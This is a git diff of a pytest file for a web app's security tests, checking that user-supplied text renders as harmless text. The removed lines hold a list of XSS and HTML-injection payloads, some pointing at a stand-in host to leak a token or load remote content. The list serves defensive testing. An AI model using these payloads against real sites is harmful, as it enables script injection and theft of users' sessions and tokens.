@@ -16,55 +16,16 @@ from elluminate_server.store.engine import Store
 from elluminate_server.store.tables import (
     AuditEvent,
     Base,
-    Experiment,
     Label,
-    LLMConfig,
-    LogLine,
     Project,
-    Response,
-    Task,
 )
+from tests.server.pages.attacks import ATTACKS, attack, shown
 from tests.server.pages.conftest import Browser
 from tests.server.pages.filling import fill
 
 pytestmark = pytest.mark.anyio
 
 dispatcher()  # registers them
-
-INJECTIONS = [
-    "<script>alert(1)</script>",
-    "</script><script>alert(1)</script>",
-    '"><script>alert(1)</script>',
-    "'><img src=x onerror=alert(1)>",
-    '" onmouseover="alert(1)" x="',
-    "' autofocus onfocus='alert(1)",
-    '" hx-get="/logout" hx-trigger="load" x="',
-    '"><div hx-on:click="alert(1)" hx-get="https://evil.example">',
-    "<svg onload=alert(1)>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
-    "</title><script>alert(1)</script>",
-    "</textarea><script>alert(1)</script>",
-    "</style><script>alert(1)</script>",
-    "<style>@import 'https://evil.example/x.css'</style>",
-    '" style="background:url(https://evil.example/x)" x="',
-    "<iframe src=javascript:alert(1)>",
-    "<a href=javascript:alert(1)>x</a>",
-    "javascript:alert(1)",
-    "<base href=https://evil.example/>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
-    "<form action=https://evil.example/><input name=token>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<object data=https://evil.example/x>",
-    "<!-- --><script>alert(1)</script><!--",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "{{ 7 * 7 }}{% raw %}{{ visit.of.token }}",
-    "&lt;script&gt;alert(1)&lt;/script&gt;&#x3c;script&#x3e;",
-    "\u202eevil\u202c\u2066x\u2069\u200f",
-    "a\x00b\x1bc\x7fd\x85e",
-    "<ſcript>alert(1)</ſcript>",
-    "%3Cscript%3Ealert(1)%3C/script%3E",
-]
 
 
 class Elements(html.parser.HTMLParser):
@@ -100,74 +61,50 @@ def check_harmless(page: str) -> None:
     assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", page)
 
 
-async def hostile(store: Store, text: str) -> int:
-    """An experiment in which everything that somebody writes is that text."""
-    braces = text.replace("{", "{{").replace("}", "}}")
-    experiment_id = await fill(
-        store,
-        rows=2,
-        name=text[:150],
-        criteria=[text, f"{text} too"],
-        topic=braces,
-        answer=braces,
-        reasoning=braces,
-    )
+async def test_what_somebody_wrote_is_shown_as_text(browser: Browser, store: Store) -> None:
+    attacks = await attack(store)
+    assert len(attacks) >= 60
+    listed = ""
+    for number in range(1, len(attacks) // 25 + 2):
+        listed += await browser.see("/projects/1/experiments", page=str(number))
+    check_harmless(listed)
+    names = "".join(Elements(listed).texts)
+    token = await browser.token()
+    for text, (experiment_id, response_id) in attacks.items():
+        assert shown(text) in names
+        for path in (
+            f"/projects/1/experiments/{experiment_id}",
+            f"/projects/1/responses/{response_id}",
+            f"/projects/1/label?experiment={experiment_id}",
+        ):
+            page = await browser.see(path)
+            check_harmless(page)
+            assert shown(text) in "".join(Elements(page).texts), path
+        await check_what_is_asked(browser, text, token)
+    for path in ("collections", "templates", "criterion-sets", "llm-configs"):
+        check_harmless(await browser.see(f"/projects/1/{path}"))
     async with store.write() as session:
-        config = LLMConfig(project_id=1, name=text, llm_model_name=text, system_message=text)
-        session.add(config)
-        task = Task(
-            id="b" * 32, project_id=1, experiment_id=experiment_id, kind="experiment", status="SUCCESS"
-        )
-        session.add(task)
-        await session.flush()
-        session.add(LogLine(task_id=task.id, line=text))
-        await session.execute(update(Experiment).values(description=text, llm_config_id=config.id))
-        await session.execute(update(Project).values(name=text))
-        await session.execute(
-            update(Response).values(
-                annotation=text,
-                termination_reason=text,
-                trajectory={
-                    "steps": [
-                        {
-                            "step_id": 1,
-                            "source": "agent",
-                            "message": text,
-                            "reasoning_content": text,
-                            "tool_calls": [
-                                {"tool_call_id": "1", "function_name": text, "arguments": {text: text}}
-                            ],
-                            "observation": {"results": [{"content": text}]},
-                        }
-                    ]
-                },
-            )
-        )
-    return experiment_id
+        await session.execute(update(Project).values(name=ATTACKS[0]))
+    page = await browser.see("/projects/1/experiments")
+    check_harmless(page)
+    assert ATTACKS[0] in "".join(Elements(page).texts)
 
 
-@pytest.mark.parametrize("text", INJECTIONS, ids=range(len(INJECTIONS)))
-async def test_what_somebody_wrote_is_shown_as_text(browser: Browser, store: Store, text: str) -> None:
-    if "\x00" in text and not store.is_sqlite:
-        pytest.skip("PostgreSQL stores no NUL")
-    experiment_id = await hostile(store, text)
-    shown = re.sub("[\x00-\x08\x0b-\x1f\x7f-\x9f\u200e\u200f\u202a-\u202e\u2066-\u2069]", "\ufffd", text)
-    paths = [
-        "/projects/1/experiments",
-        f"/projects/1/experiments/{experiment_id}",
-        "/projects/1/responses/1",
-        f"/projects/1/label?experiment={experiment_id}",
-    ]
-    for path in paths:
-        page = await browser.see(path)
-        check_harmless(page)
-        assert shown in "".join(Elements(page).texts), path
-    for path in ("/projects/1/experiments", f"/projects/1/experiments/{experiment_id}"):
-        check_harmless(await browser.see(path, q=text, template=text, status=text, criterion=text, sort=text))
-    answer = await browser.http.get("/projects/1/nothing" + "/x", params={"q": text})
+async def check_what_is_asked(browser: Browser, text: str, token: str) -> None:
+    """A text in addresses, and as the name of a file."""
+    asked = dict.fromkeys(("q", "template", "status", "criterion", "sort"), text)
+    for path in ("/projects/1/experiments", "/projects/1/experiments/1"):
+        check_harmless(await browser.see(path, **asked))
+    for path in ("/projects/1/nothing/x", "/projects/1/label", "/login"):
+        query = {"q": text, "experiment": text, "next": text, "code": text}
+        check_harmless((await browser.http.get(path, params=query)).text)
+    answer = await browser.http.post(
+        "/projects/1/collections/1/rows",
+        data={"token": token},
+        files={"file": (text, b"topic\n\xff", "text/csv")},
+    )
+    assert answer.status_code in (400, 422), answer.text
     check_harmless(answer.text)
-    check_harmless((await browser.http.get("/projects/1/label", params={"experiment": text})).text)
-    check_harmless((await browser.http.get("/login", params={"next": text, "code": text})).text)
 
 
 def places(page: Page, project_id: int) -> str:
